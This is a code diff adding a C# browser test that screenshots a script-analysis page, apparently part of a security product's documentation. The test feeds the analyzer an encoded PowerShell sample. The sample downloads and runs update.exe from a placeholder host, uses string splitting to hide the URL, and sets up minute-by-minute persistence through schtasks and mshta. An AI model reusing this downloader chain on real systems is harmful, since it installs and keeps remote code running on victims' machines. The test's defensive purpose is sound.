@@ -26,6 +26,21 @@ public sealed class ScreenshotTests(BrowserLab lab) : BrowserTest(lab)
         await page.CloseAsync();
     }
 
+    [Fact]
+    public async Task PictureOfAScript()
+    {
+        Assert.SkipUnless(Environment.GetEnvironmentVariable("REDOUBT_SCREENSHOTS") == "1", "Pictures are drawn only with REDOUBT_SCREENSHOTS=1.");
+        var scripts = await ScriptsPage.OfAsync(await OpenAsync(await Lab.Empty, "/scripts"));
+        await scripts.AnalyzeAsync($"cmd /c \"{ScriptsPage.Encoded("""
+            $u = 'http://cdn.exa' + 'mple.test/'
+            (New-Object Net.WebClient).DownloadFile(($u + 'update.exe'), "$env:PUBLIC\update.exe")
+            Start-Process "$env:PUBLIC\update.exe"
+            schtasks /create /tn Update /tr 'mshta http://cdn.example.test/a.hta' /sc minute
+            """)}\"");
+        await Expect(scripts.Page.GetByRole(AriaRole.Region, new() { Name = "Verdict" })).ToContainTextAsync("Score");
+        await File.WriteAllBytesAsync(Path.Combine(Built.ImagesFolder, "scripts.png"), await WhenStillAsync(scripts.Page), TestContext.Current.CancellationToken);
+    }
+
     /// <summary>The graph is drawn coarsely at first, and sharp a moment later.</summary>
     private static async Task<byte[]> WhenStillAsync(IPage page)
     {
